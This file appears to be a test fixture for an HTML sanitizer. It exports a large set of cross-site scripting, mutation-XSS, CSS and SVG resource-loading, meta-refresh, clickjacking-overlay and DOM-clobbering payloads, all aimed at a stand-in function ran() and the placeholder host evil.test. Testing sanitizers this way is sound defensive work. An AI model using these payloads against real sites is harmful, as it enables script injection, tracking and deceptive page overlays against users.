// Texts that try to bring something active into a page or a feed: `ran()` would run, and evil.test would be asked.

import more from './more.json';

const EVIL = 'https://evil.test';

/** What must not come alive, in several forms. */
const LIVE = '<img src=x onerror=ran()>';
const SCRIPT = '<script>ran()</script>';
const REFRESH = `<meta http-equiv=refresh content="0;url=${EVIL}/left">`;

/** White space in JavaScript and not in HTML, where it is part of a name or a value. */
const SPACES = [...'\u00a0\u1680\u2000\u200a\u2028\u2029\u202f\u205f\u3000\ufeff\u000b\u0085\u0000'];

const inSpaces = SPACES.flatMap((space) => [
  `<div><a x=${space}"${LIVE}">t</a></div>`,
  `<div><a${space}title="${LIVE}">t</a></div>`,
  `<div><textarea>x</textarea${space}><b title="</textarea>${SCRIPT}">y</b></textarea></div>`,
]);

/** Elements with text in them. What follows is text to one reader and markup to another. */
const TEXTS = [
  'title',
  'textarea',
  'iframe',
  'noscript',
  'xmp',
  'noembed',
  'noframes',
  'style',
  'template',
  'plaintext',
];

const inTexts = TEXTS.flatMap((name) => [
  `Text <${name}><b title="</${name}>${LIVE}${REFRESH}">x</b></${name}> end`,
  `<div><${name}><b title="</${name}>${LIVE}${SCRIPT}">x</b></${name}></div>`,
  `<svg><${name}><b title="</${name}>${LIVE}">x</b></${name}></svg>`,
  `<math><${name}><mi title="</${name}>${LIVE}">x</mi></${name}></math>`,
]);

/** One attribute less than an element may have. */
const MANY = Array.from({ length: 99 }, (_, index) => `a${index}`).join(' ');

/** Known mutations: what is parsed, written and parsed again becomes another tree. */
const MUTATIONS = [
  `<div><svg><![CDATA[x><g title="]]></svg>${SCRIPT}"></g></svg></div>`,
  `<div><math><![CDATA[x><mi title="]]></math>${LIVE}"></mi></math></div>`,
  `<svg></p><style><g title="</style>${LIVE}">`,
  `<svg></br><textarea><a title="</textarea>${LIVE}">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ran()&gt;">`,
  `<math><mtext><table><mglyph><textarea><math><mi title="</textarea>${LIVE}"></textarea>`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>${LIVE}">`,
  `<math><annotation-xml encoding="text/html"><style><a title="</style>${LIVE}"></annotation-xml></math>`,
  `<annotation-xml encoding="text/html">${LIVE}</annotation-xml>`,
  `<svg><desc><noembed><a title="</noembed>${LIVE}"></desc></svg>`,
  `<svg><foreignObject><math><mi><title><b title="</title>${LIVE}"></title></mi></math></foreignObject></svg>`,
  `<noscript><p title="</noscript>${LIVE}">`,
  `<select><template><style><a title="</style>${LIVE}"></template></select>`,
  `<select><option><iframe title="</option></select>${LIVE}"></iframe></select>`,
  `<select><noscript>${LIVE}</noscript></select>`,
  `<table><td><form><svg><a><td>${LIVE}</td></a></svg></form></table>`,
  `<table><caption><svg><desc><table><td title="</caption>${LIVE}"></td></table></desc></svg></caption></table>`,
  `<a><b><p></a><a title="</p></b>${LIVE}">x</a></b>`,
  `<b><i a=1><u a=2><p>x</b></u>${LIVE}`,
  `${'<div>'.repeat(600)}<svg><style><a title="</style>${LIVE}">${'</div>'.repeat(600)}`,
  `${'<b><i>'.repeat(200)}x\n\n${LIVE}`,
  `<p><table><p><svg><p><title>${LIVE}</title></svg></table>`,
  `<frameset><frame src="javascript:ran()"></frameset>`,
  `</div></div></main></article>${LIVE}<div>`,
  `<body onload=ran()><html onclick=ran()><head>`,
  `<template shadowrootmode=open>${LIVE}</template>`,
  `<!--><img src=x onerror=ran()>-->`,
  `<!-- --!>${LIVE}-->`,
  `<?x ><img src=x onerror=ran()>?>`,
  `</ ><img src=x onerror=ran()>`,
  `<img src=x alt="" width=1 height=1 / / onerror=ran()>`,
  `<img\u000bsrc=x onerror=ran()><img\fsrc=x\fonerror=ran()\falt=x>`,
  `<a"><img src=x onerror=ran()>"></a>`,
  `<a =">${LIVE}">x</a>`,
  `<x:script xmlns:x="http://www.w3.org/1999/xhtml">ran()</x:script><svg:script>ran()</svg:script>`,
  `<svg xmlns:x="http://www.w3.org/1999/xhtml"><x:script>ran()</x:script></svg>`,
  `<scr<script>ipt>ran()</scr</script>ipt>`,
  `<kbd><!--</kbd>${LIVE}`,
  `<pre>\n\n<b title="</pre>${LIVE}">x</b></pre>`,
  `<code>\`</code>${LIVE}\``,
  `<b ${MANY} onclick=ran()>x</b ${MANY} onclick=ran()><img ${MANY} src=x onerror=ran()>`,
  `<a ${'title=x '.repeat(200)}href="javascript:ran()">click</a>`,
  `<svg ${MANY}><a ${MANY} xlink:href="javascript:ran()"><text y=9>click</text></a></svg>`,
];

/** Scripts without \`<script>\`. */
const SCRIPTS = [
  SCRIPT,
  `<SCRIPT SRC=${EVIL}/a.js></SCRIPT>`,
  `<svg><script href=${EVIL}/a.js></script><script xlink:href="${EVIL}/a.js"/></svg>`,
  `<math><script>ran()</script></math>`,
  LIVE,
  `<svg onload=ran()></svg><svg><g onload=ran()></g></svg>`,
  `<details open ontoggle=ran()>x</details>`,
  `<video><source onerror=ran() src=x></video>`,
  `<input autofocus onfocus=ran()>`,
  `<p style="animation: x 1s" onanimationstart=ran()>x</p>`,
  `<a href="javascript:ran()">click</a><a href="JAVA&Tab;SCRIPT&colon;ran()">click</a>`,
  `<a href="\u0001javascript:ran()">click</a><a href=" &#x6a;avascript&#58;ran()">click</a>`,
  `<svg><a href="javascript:ran()"><text y=9>click</text></a><a xlink:href="javascript:ran()"><text>click</text></a></svg>`,
  `<math href="javascript:ran()"><mi href="javascript:ran()">click</mi></math>`,
  `<math><maction actiontype="statusline#${EVIL}" xlink:href="javascript:ran()">click</maction></math>`,
  `<map name=m><area href="javascript:ran()" shape=default></map>`,
  `<button formaction="javascript:ran()">click</button>`,
  `<form action="javascript:ran()"><button>click</button></form>`,
  `<iframe src="javascript:parent.ran()"></iframe>`,
  `<iframe srcdoc="<script>parent.ran()</script>"></iframe>`,
  `<iframe src="data:text/html,<script>parent.ran()</script>"></iframe>`,
  `<object data="javascript:ran()"></object><embed src="javascript:ran()">`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=x onerror=ran() /></svg>#x"/></svg>`,
  `<base href="${EVIL}/"><a href="x">click</a>`,
  `<link rel=stylesheet href="${EVIL}/a.css"><link rel=preload as=image href="${EVIL}/a.png">`,
  `<style>@import "${EVIL}/a.css"; body { display: none }</style>`,
  `<svg><style>@import "${EVIL}/a.css";</style></svg>`,
  REFRESH,
  `<svg>${REFRESH}</svg><math>${REFRESH}</math>`,
  `<meta name=beacon content="${EVIL}/"><meta http-equiv=Content-Security-Policy content="script-src *">`,
];

/** Attributes that a drawing changes by itself. */
const DRAWN = [
  `<svg><a href="/blog"><animate attributeName="href" values="javascript:ran()" dur=9s repeatCount=indefinite /><text y=9>click</text></a></svg>`,
  `<svg><a href="/blog"><animate attributeName=href from="javascript:ran()" to="javascript:ran()" dur=9s /><text y=9>click</text></a></svg>`,
  `<svg><a href="/blog"><set attributeName=href to="javascript:ran()"/><text y=9>click</text></a></svg>`,
  `<svg><a href="/blog"><set attributeName="xlink:href" to="jav&#x09;ascript:ran()"/><text y=9>click</text></a></svg>`,
  `<svg><a id=one href="/blog"><text y=9>click</text></a><set href="#one" attributeName=href to="javascript:ran()"/></svg>`,
  `<svg><animate onbegin=ran() attributeName=x dur=1s><set attributeName=onmouseover to="ran()"/></svg>`,
  `<svg><animateMotion onend=ran() dur=1s /><animateTransform onrepeat=ran() attributeName=transform dur=1s repeatCount=2 /></svg>`,
  `<svg><image href="/x.png"><set attributeName=href to="${EVIL}/a.png"/></image></svg>`,
  `<svg><handler type="text/javascript">ran()</handler><listener event=click handler="#x"/></svg>`,
];

/** What would be loaded from another site. */
const LOADS = [
  `<svg><image href="${EVIL}/a.png"/><image xlink:href="${EVIL}/b.png"/></svg>`,
  `<svg><filter id=f><feImage href="${EVIL}/a.png"/></filter><rect width=9 height=9 filter="url(#f)"/></svg>`,
  `<svg><use href="${EVIL}/a.svg#x"/><pattern href="${EVIL}/a.svg#x"></pattern></svg>`,
  `<svg><rect width=9 height=9 fill="url(${EVIL}/a.svg#x)" mask="url(${EVIL}/b.svg#m)" filter='url("${EVIL}/f.svg#f")'/></svg>`,
  `<svg><rect width=9 height=9 mask='image-set("${EVIL}/a.png" 1x)' cursor="url(${EVIL}/c.png),auto"/></svg>`,
  `<svg><rect width=9 height=9 mask="u\\72l(${EVIL}/a.png)" fill="ur/**/l(${EVIL}/a.svg)"/></svg>`,
  `<input type=image src="${EVIL}/a.png" alt=x>`,
  `<table background="${EVIL}/a.png"><tr><td background="${EVIL}/b.png">x</td></tr></table>`,
  `<a href="/blog" ping="${EVIL}/ping">click</a><area href="/blog" ping="${EVIL}/ping">`,
  `<a href="/blog" attributionsrc="${EVIL}/a">click</a><img src="/a.png" alt="" attributionsrc="${EVIL}/b">`,
  `<p style="background: url(${EVIL}/a.png)">x</p><p style='background: url("//evil.test/b.png")'>x</p>`,
  `<p style='background: image-set("${EVIL}/a.png" 1x); background: -webkit-image-set(url(${EVIL}/b.png) 1x)'>x</p>`,
  `<p style="--a: url(${EVIL}/a.png); background: var(--a)">x</p>`,
  `<p style='--a: "${EVIL}/a.png"'><b style="background: image-set(var(--a) 1x)">x</b></p>`,
  `<p style="background: u\\72l(${EVIL}/a.png)">x</p><p style='a: /*"*/url(${EVIL}/b.png)/*"*/'>x</p>`,
  `<p style='a: "&#10;; background: url(${EVIL}/a.png); b: "'>x</p>`,
  `<p style="background: url(https:evil.test/a.png)">x</p><p style="background: url(https:\\\\evil.test/b.png)">x</p>`,
  `<p style="} body { background: url(${EVIL}/a.png)">x</p><p style="x: </style>${LIVE}">x</p>`,
  `<img src="${EVIL}/a.png" alt="" width=1 height=1><img srcset="${EVIL}/b.png 1x, //evil.test/c.png 2x" src="/x.png" alt="">`,
  `<img src="https:/evil.test/a.png" alt=""><img src="https:evil.test/b.png" alt=""><img src="/\\evil.test/c.png" alt="">`,
  `<img src="/\t/evil.test/a.png" alt=""><img src="\u0001//evil.test/b.png" alt="">`,
  `<picture><source srcset="${EVIL}/a.png"><img src="/x.png" alt=""></picture>`,
  `<video src="${EVIL}/a.mp4" poster="${EVIL}/a.png"></video><audio src="${EVIL}/a.mp3"><track src="${EVIL}/a.vtt"></audio>`,
  `<video><source src="${EVIL}/a.mp4"><source src="/\\evil.test/b.mp4"></video>`,
  `<iframe src="${EVIL}/login"></iframe><iframe src="//evil.test/x" />`,
  `<object data="${EVIL}/a"></object><embed src="${EVIL}/a"><applet code="${EVIL}/a"></applet>`,
  `<body background="${EVIL}/a.png"><img lowsrc="${EVIL}/a.png" dynsrc="${EVIL}/b.png" src="/x.png" alt="">`,
  `<command icon="${EVIL}/a.png"><isindex action="${EVIL}"><bgsound src="${EVIL}/a.mp3"><frame src="${EVIL}">`,
];

/** What takes the place of the page, or of what scripts of ours look for. */
const COVERS = [
  `<a href="/blog" style="position: fixed; inset: 0; opacity: 0">click</a>`,
  `<p style="--p: fixed; position: var(--p)">x</p><p style="POSITION : sticky">x</p>`,
  `<img name=querySelector src="/x.png" alt=""><iframe name=forms src="/blog"></iframe><form name=body></form>`,
];

export const ATTACKS: string[] = [
  ...inSpaces,
  ...inTexts,
  ...MUTATIONS,
  ...SCRIPTS,
  ...DRAWN,
  ...LOADS,
  ...COVERS,
  `Text <title><b title="</title><iframe src=${EVIL}/login></iframe><img src=${EVIL}/x.png><style>body{display:none}</style><meta name=beacon content=${EVIL}/>">x</b></title> end`,
];

/** All of them, and those of a kind in which not each is live HTML. */
export const ALL_ATTACKS: string[] = [...ATTACKS, ...Object.values(more).flat()];

/** Texts that try to cover the header, the title or the footer of their page. */
export const COVERING: string[] = [...COVERS, ...more.cover];
